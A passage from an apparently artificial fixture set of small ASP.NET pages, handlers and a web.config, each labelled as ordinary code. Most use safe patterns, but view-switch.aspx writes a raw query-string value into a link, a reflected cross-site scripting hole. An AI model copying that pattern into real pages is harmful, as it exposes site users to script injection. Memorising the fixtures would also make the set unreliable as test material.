    name: 'contact.aspx',
    what: 'parameterised SQL insert from a form',
    text: '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%@ Import Namespace="System.Configuration" %>\n<script runat="server">\n    protected void Send_Click(object sender, EventArgs e)\n    {\n        string cs = ConfigurationManager.ConnectionStrings["Shop"].ConnectionString;\n        using (var conn = new SqlConnection(cs))\n        using (var cmd = new SqlCommand("INSERT INTO Contacts (Name, Email, Body) VALUES (@n, @e, @b)", conn))\n        {\n            cmd.Parameters.AddWithValue("@n", txtName.Text);\n            cmd.Parameters.AddWithValue("@e", txtEmail.Text);\n            cmd.Parameters.AddWithValue("@b", txtBody.Text);\n            conn.Open();\n            cmd.ExecuteNonQuery();\n        }\n        lblDone.Text = "Thank you, we will get back to you.";\n    }\n</script>\n<form runat="server">\n  <asp:TextBox ID="txtName" runat="server" /> <asp:TextBox ID="txtEmail" runat="server" />\n  <asp:TextBox ID="txtBody" TextMode="MultiLine" runat="server" />\n  <asp:Button runat="server" Text="Send" OnClick="Send_Click" /> <asp:Label ID="lblDone" runat="server" />\n</form>\n',
  },
  {
    name: 'download.ashx',
    what: 'handler streaming a file from a fixed folder',
    text: '<%@ WebHandler Language="C#" Class="Download" %>\nusing System;\nusing System.IO;\nusing System.Web;\n\n/// Streams a brochure from the fixed downloads folder; the name is reduced to a file name first.\npublic class Download : IHttpHandler\n{\n    public bool IsReusable { get { return true; } }\n\n    public void ProcessRequest(HttpContext context)\n    {\n        string requested = context.Request.QueryString["file"] ?? string.Empty;\n        string name = Path.GetFileName(requested);\n        string folder = context.Server.MapPath("~/App_Data/downloads");\n        string path = Path.Combine(folder, name);\n        if (name.Length == 0 || !File.Exists(path) || !path.StartsWith(folder, StringComparison.OrdinalIgnoreCase))\n        {\n            context.Response.StatusCode = 404;\n            return;\n        }\n        context.Response.ContentType = "application/pdf";\n        context.Response.AddHeader("Content-Disposition", "attachment; filename=\\"" + name + "\\"");\n        context.Response.TransmitFile(path);\n    }\n}\n',
  },
  {
    name: 'hello-form.aspx',
    what: 'form that echoes a name',
    text: '<%@ Page Language="C#" AutoEventWireup="true" %>\n<!DOCTYPE html>\n<script runat="server">\n    protected void Page_Load(object sender, EventArgs e)\n    {\n        if (IsPostBack)\n        {\n            string name = Request.Form["txtName"];\n            lblHello.Text = "Hello, " + Server.HtmlEncode(name ?? "stranger") + "!";\n        }\n    }\n</script>\n<html><head runat="server"><title>Greeting</title></head>\n<body>\n<form id="form1" runat="server">\n  <label for="txtName">Your name</label> <asp:TextBox ID="txtName" runat="server" />\n  <asp:Button ID="btnGo" runat="server" Text="Say hello" />\n  <p><asp:Label ID="lblHello" runat="server" /></p>\n</form>\n</body></html>\n',
  },
  {
    name: 'login.aspx',
    what: 'login form with a password box',
    text: '<%@ Page Language="C#" %>\n<script runat="server">\n    protected void Login_Click(object sender, EventArgs e)\n    {\n        if (Membership.ValidateUser(txtUser.Text, txtPassword.Text))\n            FormsAuthentication.RedirectFromLoginPage(txtUser.Text, chkRemember.Checked);\n        else\n            lblError.Text = "The user name or password is incorrect.";\n    }\n</script>\n<form runat="server">\n  <asp:TextBox ID="txtUser" runat="server" /> <asp:TextBox ID="txtPassword" TextMode="Password" runat="server" />\n  <asp:CheckBox ID="chkRemember" runat="server" Text="Remember me" />\n  <asp:Button runat="server" Text="Sign in" OnClick="Login_Click" /> <asp:Label ID="lblError" runat="server" />\n</form>\n',
  },
  {
    name: 'photo-upload.aspx',
    what: 'photo upload to a fixed folder under a new name',
    text: '<%@ Page Language="C#" %>\n<script runat="server">\n    protected void Upload_Click(object sender, EventArgs e)\n    {\n        if (!fuPhoto.HasFile) return;\n        string ext = System.IO.Path.GetExtension(fuPhoto.FileName).ToLowerInvariant();\n        if (ext != ".jpg" && ext != ".png") { lblMsg.Text = "Only JPEG or PNG."; return; }\n        string name = Guid.NewGuid().ToString("N") + ext;\n        fuPhoto.SaveAs(Server.MapPath("~/App_Data/photos/") + name);\n        lblMsg.Text = "Uploaded.";\n    }\n</script>\n<form runat="server"><asp:FileUpload ID="fuPhoto" runat="server" /><asp:Button runat="server" Text="Upload" OnClick="Upload_Click" /><asp:Label ID="lblMsg" runat="server" /></form>\n',
  },
  {
    name: 'report.aspx',
    what: 'VB page listing PDF files of a fixed folder',
    text: '<%@ Page Language="VB" %>\n<script runat="server">\n    Sub Page_Load(sender As Object, e As EventArgs)\n        Dim year As Integer\n        If Not Integer.TryParse(Request.QueryString("year"), year) Then year = Date.Today.Year\n        lblTitle.Text = "Report " & year.ToString() & _\n            " (" & Server.HtmlEncode(Request.QueryString("region")) & ")"\n        Dim dir As New System.IO.DirectoryInfo(Server.MapPath("~/reports"))\n        For Each f As System.IO.FileInfo In dir.GetFiles("*.pdf")\n            blList.Items.Add(New ListItem(f.Name, "reports/" & f.Name))\n        Next\n    End Sub\n</script>\n<form runat="server"><asp:Label ID="lblTitle" runat="server" /><asp:BulletedList ID="blList" DisplayMode="HyperLink" runat="server" /></form>\n',
  },
  {
    name: 'view-switch.aspx',
    what: 'query string chooses a view; data-binding Eval()',
    text: '<%@ Page Language="C#" MasterPageFile="~/Site.Master" Title="Orders" %>\n<script runat="server">\n    protected void Page_Load(object sender, EventArgs e)\n    {\n        string view = Request.QueryString["view"] ?? "list";\n        switch (view.ToLowerInvariant())\n        {\n            case "detail": mvOrders.SetActiveView(vwDetail); break;\n            case "chart": mvOrders.SetActiveView(vwChart); break;\n            default: mvOrders.SetActiveView(vwList); break;\n        }\n        int page;\n        if (!int.TryParse(Request.QueryString["page"], out page)) page = 1;\n        gridOrders.PageIndex = Math.Max(0, page - 1);\n    }\n</script>\n<asp:Content ContentPlaceHolderID="Main" runat="server">\n  <asp:MultiView ID="mvOrders" runat="server">\n    <asp:View ID="vwList" runat="server">\n      <asp:GridView ID="gridOrders" runat="server" AllowPaging="true" DataSourceID="dsOrders">\n        <Columns><asp:TemplateField><ItemTemplate><%# Eval("OrderNo") %> - <%# DataBinder.Eval(Container.DataItem, "Customer") %></ItemTemplate></asp:TemplateField></Columns>\n      </asp:GridView>\n    </asp:View>\n    <asp:View ID="vwDetail" runat="server"><a href="?view=list&page=<%= Request.QueryString["page"] %>">Back</a></asp:View>\n    <asp:View ID="vwChart" runat="server"><img src="chart.ashx?year=<%= DateTime.UtcNow.Year %>" alt="Chart" /></asp:View>\n  </asp:MultiView>\n  <asp:SqlDataSource ID="dsOrders" runat="server" ConnectionString="<%$ ConnectionStrings:Shop %>" SelectCommand="SELECT OrderNo, Customer FROM Orders ORDER BY OrderNo DESC" />\n</asp:Content>\n',
  },
  {
    name: 'weather.asmx',
    what: 'ASMX web service',
    text: '<%@ WebService Language="C#" Class="WeatherService" %>\nusing System;\nusing System.Web.Services;\n\n[WebService(Namespace = "http://intranet.example.org/weather")]\npublic class WeatherService : WebService\n{\n    [WebMethod(Description = "Server time in a time zone")]\n    public string ServerTime(string zone)\n    {\n        var tz = TimeZoneInfo.FindSystemTimeZoneById(string.IsNullOrEmpty(zone) ? "UTC" : zone);\n        return TimeZoneInfo.ConvertTimeFromUtc(DateTime.UtcNow, tz).ToString("o");\n    }\n\n    [WebMethod]\n    public int Add(int a, int b) { return a + b; }\n}\n',
  },
  {
    name: 'web.config',
    what: 'web.config with normal handlers',
    text: '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <connectionStrings>\n    <add name="Shop" connectionString="Data Source=sql01;Initial Catalog=Shop;Integrated Security=True" providerName="System.Data.SqlClient" />\n  </connectionStrings>\n  <system.web>\n    <compilation debug="false" targetFramework="4.8" />\n    <httpRuntime targetFramework="4.8" maxRequestLength="4096" />\n    <authentication mode="Forms"><forms loginUrl="~/login.aspx" timeout="30" /></authentication>\n    <customErrors mode="RemoteOnly" defaultRedirect="~/error.aspx" />\n  </system.web>\n  <system.webServer>\n    <handlers>\n      <add name="ChartHandler" path="chart.ashx" verb="GET" type="Shop.Web.ChartHandler, Shop.Web" resourceType="Unspecified" preCondition="integratedMode" />\n      <remove name="WebDAV" />\n    </handlers>\n    <modules><remove name="WebDAVModule" /></modules>\n    <staticContent><mimeMap fileExtension=".woff2" mimeType="font/woff2" /></staticContent>\n    <httpProtocol><customHeaders><add name="X-Content-Type-Options" value="nosniff" /></customHeaders></httpProtocol>\n  </system.webServer>\n</configuration>\n',
  },
];
